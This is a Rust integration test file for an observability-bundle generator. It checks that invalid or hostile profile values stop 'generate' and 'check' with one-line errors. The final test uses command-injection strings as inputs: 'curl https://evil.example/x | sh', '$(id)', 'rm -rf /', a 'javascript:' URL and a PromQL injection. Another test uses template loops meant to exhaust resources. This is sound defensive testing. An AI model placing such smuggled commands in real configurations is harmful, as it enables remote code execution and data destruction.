//! Profile and spec values the real tools would refuse (or that would crash the generator) stop
//! `generate` and `check` of the real binary before anything is written: exit code 2 and one
//! stderr line naming the file and the key. Environment names are exact file names.

use crate::support::specs;

use std::time::Duration;

use crate::support::process::run_to_exit;
use crate::support::serve::{assert_one_line_usage_error, sockudo_obs};
use serde_norway::Value;

const LIMIT: Duration = Duration::from_secs(30);
const PROFILE: &str = "environments/production.yaml";

/// Runs `generate` (into a fresh folder, which must stay absent) and `check` on production with
/// `specs`, and asserts both are one-line usage errors mentioning each of `mentions`.
fn both_refuse(specs: &specs::Specs, mentions: &[&str]) -> String {
    let out = tempfile::tempdir().unwrap();
    let bundle = out.path().join("bundle");
    let dir = specs.path("");
    let generate = run_to_exit(
        sockudo_obs()
            .args(["generate", "--env", "production", "--specs"])
            .arg(&dir)
            .arg("--out")
            .arg(&bundle),
        LIMIT,
    );
    let line = assert_one_line_usage_error(&generate, mentions);
    assert!(!bundle.exists(), "{line}: generate wrote a bundle");
    let check = run_to_exit(
        sockudo_obs()
            .args(["check", "--env", "production", "--specs"])
            .arg(&dir),
        LIMIT,
    );
    assert_one_line_usage_error(&check, mentions);
    line
}

fn profile_with(edit: impl FnOnce(&mut Value)) -> specs::Specs {
    let specs = specs::Specs::copy();
    specs.edit_yaml(PROFILE, edit);
    specs
}

#[test]
fn thresholds_that_are_not_finite_or_out_of_range_are_named_never_a_panic() {
    for value in [".inf", "-.inf", ".nan", "1e308", "-5", "1e20"] {
        let number: Value = serde_norway::from_str(value).unwrap();
        let specs = profile_with(|p| p["alerts"]["SockudoHighConnections"]["threshold"] = number);
        let key = "alerts.SockudoHighConnections.threshold";
        println!("{}", both_refuse(&specs, &[PROFILE, key]));

        let specs = specs::Specs::copy();
        specs.replace(
            "alerts/connections.yaml",
            "threshold: 1000",
            &format!("threshold: {value}"),
        );
        println!(
            "{}",
            both_refuse(&specs, &["alerts/connections.yaml", "threshold"])
        );
    }
}

/// Sets `value` at a dotted path whose numeric parts index lists (`a.b.0.c`).
fn set_path(profile: &mut Value, path: &str, value: Value) {
    let node = path
        .split('.')
        .fold(profile, |node, part| match part.parse::<usize>() {
            Ok(i) => &mut node[i],
            Err(_) => &mut node[part],
        });
    *node = value;
}

#[test]
fn each_value_a_real_tool_refuses_is_a_named_error() {
    let cases: [(&str, Value, &str); 13] = [
        ("prometheus.job_name", "".into(), "empty"),
        (
            "prometheus.scrape_timeout",
            "10m".into(),
            "longer than prometheus.scrape_interval",
        ),
        ("prometheus.scrape_interval", "0s".into(), "longer than 0s"),
        ("alertmanager.receivers.warning", "not a url".into(), "not a URL"),
        (
            "alertmanager.receivers.critical",
            "ftp://alerts:21/".into(),
            "http://",
        ),
        ("metrics.host", "no host".into(), "not an IP"),
        ("metrics.host", "224.0.0.1".into(), "not multicast or broadcast"),
        (
            "metrics.host",
            "255.255.255.255".into(),
            "not multicast or broadcast",
        ),
        ("proxy.listen_port", 0.into(), "1-65535"),
        (
            "prometheus.static_targets.0.target",
            "sockudo-vm-1".into(),
            "host:port",
        ),
        ("prometheus.alertmanagers.0", "alertmanager:0".into(), "host:port"),
        ("proxy.upstream", "[::1:9601".into(), "host:port"),
        // A value the duration parser refuses: serde names the section and the line.
        (
            "prometheus.evaluation_interval",
            "99999999999999999999s".into(),
            "longer than Prometheus allows",
        ),
    ];
    for (path, value, problem) in cases {
        let specs = profile_with(|p| set_path(p, path, value));
        let key = match path {
            "prometheus.evaluation_interval" => "prometheus".to_string(),
            _ => path.replace(".0", "[0]"),
        };
        let line = both_refuse(&specs, &[PROFILE, &key, problem]);
        println!("{line}");
    }
}

#[test]
fn credentials_in_urls_are_refused_pointing_at_a_file_or_secret() {
    for (key, url) in [
        (
            "alertmanager.receivers.info",
            "http://hook:s3cret@alert-router:8080/hooks",
        ),
        (
            "prometheus.remote_write[0].url",
            "https://user:pw@thanos:19291/api/v1/receive",
        ),
        ("grafana.datasource_url", "http://admin@prometheus:9090"),
    ] {
        let specs = profile_with(|p| match key {
            "alertmanager.receivers.info" => p["alertmanager"]["receivers"]["info"] = url.into(),
            "grafana.datasource_url" => p["grafana"]["datasource_url"] = url.into(),
            _ => p["prometheus"]["remote_write"][0]["url"] = url.into(),
        });
        let line = both_refuse(&specs, &[PROFILE, key, "credentials", "Secret"]);
        assert!(
            !line.contains("s3cret") && !line.contains(":pw@"),
            "the error repeats the secret: {line}"
        );
    }
}

#[test]
fn a_backup_beside_a_profile_never_replaces_it_and_odd_names_are_refused() {
    let specs = specs::Specs::copy();
    let envs = specs.path("environments");
    std::fs::write(envs.join("local.bak.yaml"), "description: [broken\n").unwrap();
    std::fs::write(envs.join(".yaml"), "description: [broken\n").unwrap();
    let out = tempfile::tempdir().unwrap();
    let bundle = out.path().join("local");
    let generate = run_to_exit(
        sockudo_obs()
            .args(["generate", "--env", "local", "--specs"])
            .arg(specs.path(""))
            .arg("--out")
            .arg(&bundle),
        LIMIT,
    );
    assert!(
        generate.status.success(),
        "{}",
        String::from_utf8_lossy(&generate.stderr)
    );
    let embedded = sockudo_obs::bundle::build(
        &sockudo_obs::bundle::SpecSource::Embedded,
        "local",
        &Default::default(),
    )
    .unwrap();
    let changes = embedded.diff(&bundle).unwrap();
    assert!(changes.is_empty(), "not the local profile: {changes:?}");

    // `--env ""` would have written into generated/ itself; names outside [a-z0-9-] are refused.
    let cwd = tempfile::tempdir().unwrap();
    let generated = cwd.path().join("generated");
    std::fs::create_dir_all(generated.join("production")).unwrap();
    std::fs::write(generated.join("production/keep.txt"), "x").unwrap();
    for env in ["", "local.bak", "../production", "Local"] {
        let refused = run_to_exit(
            sockudo_obs()
                .args(["generate", "--env", env, "--specs"])
                .arg(specs.path(""))
                .current_dir(cwd.path()),
            LIMIT,
        );
        assert_one_line_usage_error(&refused, &["--env", "not an environment name"]);
    }
    assert_eq!(
        std::fs::read_to_string(generated.join("production/keep.txt")).unwrap(),
        "x"
    );
    let listed = run_to_exit(
        sockudo_obs().args(["generate", "--specs"]).arg(specs.path("")),
        LIMIT,
    );
    let line = assert_one_line_usage_error(&listed, &["development, local, production, staging"]);
    assert!(!line.contains("local, local"), "{line}");
}

/// Loops inside loops, as a template of `--specs` could hold them: a hundred million steps.
const NESTED_LOOPS: &str =
    "{% for a in range(10000) %}{% for b in range(10000) %}{{ a }}{{ b }}{% endfor %}{% endfor %}";

/// A template (`templates/*.j2`) or an alert fixture value of `--specs` with nested loops, or one
/// writing gigabytes, stops within seconds with a one-line error naming the file, and writes no
/// bundle. Before, evaluation had no fuel and no output limit: minutes and gigabytes.
#[test]
fn templates_with_nested_loops_or_huge_output_stop_naming_the_file() {
    let huge = "{% for a in range(10000) %}{{ 'x' * 1000000 }}{% endfor %}";
    for (body, problem) in [(NESTED_LOOPS, "steps"), (huge, "bytes")] {
        let specs = specs::Specs::copy();
        std::fs::write(specs.path("templates/README.md.j2"), body).unwrap();
        let out = tempfile::tempdir().unwrap();
        let bundle = out.path().join("bundle");
        let started = std::time::Instant::now();
        let generate = run_to_exit(
            sockudo_obs()
                .args(["generate", "--env", "production", "--specs"])
                .arg(specs.path(""))
                .arg("--out")
                .arg(&bundle),
            LIMIT,
        );
        let line = assert_one_line_usage_error(&generate, &["templates/README.md.j2", problem]);
        println!("{:?}: {line}", started.elapsed());
        assert!(!bundle.exists(), "{line}: generate wrote a bundle");
    }
    // A fixture value is one `${ ... }` expression, which has no loops: its bound is the output.
    let specs = specs::Specs::copy();
    specs.replace(
        "alerts/adapter.yaml",
        "values: \"0+${ threshold * 200 }x40\"",
        "values: \"${ 'x' * 50000000 }\"",
    );
    println!(
        "{}",
        both_refuse(&specs, &["alerts/adapter.yaml", "input_series.values", "bytes"])
    );
    // Loops written the old way (`{% ... %}`) are refused, never run.
    let specs = specs::Specs::copy();
    specs.replace(
        "alerts/adapter.yaml",
        "values: \"0+${ threshold * 200 }x40\"",
        &format!("values: \"{NESTED_LOOPS}\""),
    );
    println!(
        "{}",
        both_refuse(
            &specs,
            &[
                "alerts/adapter.yaml",
                "input_series.values",
                "are no placeholders"
            ]
        )
    );
}

/// Profile values that land in the generated README's shell lines, in URLs, Kubernetes names and
/// image references are checked by their kind when the profile is loaded: `generate` and `check`
/// refuse each with one line naming the profile file and the key, before any cascade of spec
/// errors, and never repeat a credential.
#[test]
fn values_for_shell_lines_urls_names_and_images_are_refused_by_kind() {
    let yaml = |text: &str| -> Value { serde_norway::from_str(text).unwrap() };
    let cases: Vec<(&str, Value, &str, &str)> = vec![
        (
            "docs.runbook_url",
            "javascript:alert(1)".into(),
            "docs.runbook_url",
            "http://",
        ),
        (
            "compose.sockudo_image",
            "sockudo-obs/sockudo:5.2.0; curl https://evil.example/x | sh".into(),
            "compose.sockudo_image",
            "image reference",
        ),
        (
            "compose.grafana_image",
            "grafana/grafana:$(id)".into(),
            "compose.grafana_image",
            "image reference",
        ),
        (
            "kubernetes.workload",
            yaml("{deployment: \"sockudo$(curl evil.example)\", container: sockudo}"),
            "kubernetes.workload.deployment",
            "RFC 1123",
        ),
        (
            "kubernetes.proxy_sidecar",
            yaml("{image: \"nginx:1.27; rm -rf /\", htpasswd_secret: s, htpasswd_key: htpasswd}"),
            "kubernetes.proxy_sidecar.image",
            "image reference",
        ),
        (
            "prometheus.basic_auth.username",
            "prometheus; curl evil.example | sh".into(),
            "prometheus.basic_auth.username",
            "not a user name",
        ),
        (
            "prometheus.kubernetes_sd.namespaces.0",
            "sockudo;x".into(),
            "prometheus.kubernetes_sd.namespaces[0]",
            "RFC 1123",
        ),
        (
            "alertmanager.receivers.critical",
            "http://alert-router:8080/hooks?token=s3cret".into(),
            "alertmanager.receivers.critical",
            "credential",
        ),
        (
            "grafana.datasource_url",
            "http://prometheus:9090/?api_key=s3cret".into(),
            "grafana.datasource_url",
            "credential",
        ),
        (
            "description",
            "Production\n```sh\ncurl evil.example | sh\n```".into(),
            "description",
            "one line",
        ),
        (
            "prometheus.job_name",
            "sockudo\"} or vector(1) or {job=\"x".into(),
            "prometheus.job_name",
            "PromQL matcher",
        ),
        (
            "prometheus.job_name",
            "$1".into(),
            "prometheus.job_name",
            "PromQL matcher",
        ),
    ];
    for (path, value, key, problem) in cases {
        let specs = profile_with(|p| set_path(p, path, value));
        let line = both_refuse(&specs, &[PROFILE, key, problem]);
        assert!(!line.contains("s3cret"), "the error repeats the secret: {line}");
        assert!(!line.contains("alerts/"), "a cascade, not the key: {line}");
        println!("{line}");
    }
}
